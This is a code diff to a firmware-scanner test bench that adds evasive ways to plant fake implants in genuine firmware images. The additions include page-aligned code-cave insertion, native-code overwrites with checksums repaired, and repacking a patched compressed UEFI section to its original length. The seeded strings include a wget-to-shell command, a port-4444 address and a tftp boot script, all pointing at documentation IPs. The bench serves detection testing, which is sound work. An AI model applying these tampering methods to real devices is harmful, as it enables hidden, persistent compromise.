@@ -1,8 +1,11 @@
 """Implants that the bench puts into genuine images, by kind; *mended* ones repair the sums of the format afterwards.
 
-A kind returns None where it does not apply: a mended patch needs a format whose sums are known here.
+A kind returns None where it does not apply: a mended patch needs a format whose sums are known here. :data:`KINDS` are
+those of the bar; :data:`HARDER` were made by somebody who knows the rules and walks around them.
 """
 
+import base64
+import lzma
 import re
 import struct
 from collections.abc import Callable
@@ -11,13 +14,21 @@ from random import Random
 import numpy as np
 
 from mumetal.core.firmware import FirmwareImage
-from mumetal.scan.firmware import xilinx, xilinx_crc
+from mumetal.scan.firmware import uefi, xilinx, xilinx_crc
 
 Implant = Callable[[bytes, FirmwareImage, Random], bytes | None]
 COMMAND = b"/bin/sh -c wget -qO- http://203.0.113.7/p | sh &\0"
 ADDRESS = b"203.0.113.9:4444\0"
+SCRIPT = b"tftpboot ${kernel_addr_r} 203.0.113.7:p; bootm ${kernel_addr_r}\0"
+URL = b"https://updates.example.net/p\0"
 BOOT = b"init=/bin/sh console=null\0"
-CERTIFICATE = bytes.fromhex("3082020030820169a003020102") + bytes(range(256)) + bytes(251)
+CERTIFICATE = base64.b64decode(  # P-256, signed by itself, its key thrown away
+    "MIIBbzCCARWgAwIBAgIBBzAKBggqhkjOPQQDAjA1MRAwDgYDVQQKDAdFeGFtcGxlMSEwHwYDVQQDDBh1cGRhdGUgYXV0aG9yaXR5"
+    "IGV4YW1wbGUwHhcNMjYwMTAxMDAwMDAwWhcNMzYwMTAxMDAwMDAwWjA1MRAwDgYDVQQKDAdFeGFtcGxlMSEwHwYDVQQDDBh1cGRh"
+    "dGUgYXV0aG9yaXR5IGV4YW1wbGUwWTATBgcqhkjOPQIBBggqhkjOPQMBBwNCAARQ5DfBjEV/xbwmZVySbsf4t5p+oK3b/lYNbfHu"
+    "UC/sp0gZYUk7iwIPkKfClvKiEaoRvdNDpnpbwSF8Et3fVPIjoxYwFDASBgNVHRMBAf8ECDAGAQH/AgEAMAoGCCqGSM49BAMCA0gA"
+    "MEUCIBShwB78f3d1MAvPugdgWtbgEkieCgImPzib0U06CNjRAiEAv9f5YGH6GzoHENrQfz1vDUsxJtSVkAo29Sv7MKLc/14="
+)
 
 
 def version_key(text: str) -> list[tuple[int, int, str]]:
@@ -51,20 +62,24 @@ def place(data: bytes, at: int, body: bytes) -> bytes:
 
 
 def appended(data: bytes, _image: FirmwareImage, chance: Random) -> bytes:
+    """Two KiB after the end."""
     return data + payload(data, chance, 2_048)
 
 
 def in_cave(data: bytes, _image: FirmwareImage, chance: Random) -> bytes | None:
+    """Half a KiB inside one of the longest runs of filling."""
     at = cave(data, chance, 512)
     return None if at is None else place(data, at, payload(data, chance, 512))
 
 
 def in_cave_mended(data: bytes, image: FirmwareImage, chance: Random) -> bytes | None:
+    """The same, sums mended."""
     evil = in_cave(data, image, chance)
     return None if evil is None else mend(evil, image)
 
 
 def patch(data: bytes, image: FirmwareImage, chance: Random) -> bytes | None:
+    """64 bytes over code or frames."""
     regions = [
         r for r in image.regions if r.kind in {"code", "frames", "content"} and not r.parent and r.stop - r.start > 256
     ]
@@ -76,6 +91,7 @@ def patch(data: bytes, image: FirmwareImage, chance: Random) -> bytes | None:
 
 
 def patch_mended(data: bytes, image: FirmwareImage, chance: Random) -> bytes | None:
+    """The same, sums mended; UEFI files are packed, see :func:`repacked`."""
     evil = patch(data, image, chance)
     return None if evil is None or image.format == "uefi" else mend(evil, image)
 
@@ -173,6 +189,51 @@ def wider_rights(data: bytes, image: FirmwareImage, _chance: Random) -> bytes | 
     return bytes(out)
 
 
+def in_cave_paged(data: bytes, _image: FirmwareImage, chance: Random) -> bytes | None:
+    """In filling, but on a page, as a linker would put it."""
+    places = []
+    for run in re.finditer(rb"\x00{4900,}|\xff{4900,}", data):
+        first = (run.start() + 64 + 4_095) & ~4_095
+        if first + 512 + 64 <= run.end():
+            places.append(first)
+    return place(data, chance.choice(places), payload(data, chance, 512)) if places else None
+
+
+def patch_native(data: bytes, image: FirmwareImage, chance: Random) -> bytes | None:
+    """Code of the image itself, unscrambled, over other code of it; sums mended."""
+    regions = [r for r in image.regions if r.kind in {"code", "content"} and not r.parent and r.stop - r.start > 1_024]
+    if not regions or image.format == "uefi":
+        return None
+    region = chance.choice(regions)
+    source, target = (chance.randrange(region.start + 64, region.stop - 128) & ~3 for _ in range(2))
+    return mend(place(data, target, data[source : source + 64]), image)
+
+
+def repacked(data: bytes, image: FirmwareImage, chance: Random) -> bytes | None:
+    """A patch inside a packed UEFI section, packed again to the same length."""
+    if image.format != "uefi":
+        return None
+    at = data.find(uefi.LZMA.bytes_le)
+    if at < 8:
+        return None
+    start = at - 4
+    size = int.from_bytes(data[start : start + 3], "little")
+    if size == 0xFFFFFF:
+        start -= 4
+        (size,) = struct.unpack_from("<I", data, start + 4)
+    (offset,) = struct.unpack_from("<H", data, at + 16)
+    packed = data[start + offset : start + size]
+    plain = lzma.LZMADecompressor(format=lzma.FORMAT_ALONE).decompress(packed)
+    where = chance.randrange(len(plain) // 4, len(plain) - 64)
+    evil = place(plain, where, payload(plain, chance, 64))
+    filters = [{"id": lzma.FILTER_LZMA1, "preset": 9, "dict_size": int.from_bytes(packed[1:5], "little")}]
+    again = lzma.compress(evil, format=lzma.FORMAT_ALONE, filters=filters)
+    again = again[:5] + packed[5:13] + again[13:]
+    if len(again) > len(packed):
+        return None
+    return place(data, start + offset, again.ljust(len(packed), b"\0"))
+
+
 KINDS: dict[str, Implant] = {
     "appended": appended,
     "cave": in_cave,
@@ -184,4 +245,11 @@ KINDS: dict[str, Implant] = {
     "boot-argument": over_text(BOOT),
     "certificate": over_text(CERTIFICATE),
     "wider-rights": wider_rights,
+}
+HARDER: dict[str, Implant] = {
+    "cave-paged": in_cave_paged,
+    "patch-native": patch_native,
+    "boot-script": over_text(SCRIPT),
+    "url": over_text(URL),
+    "repacked": repacked,
 }
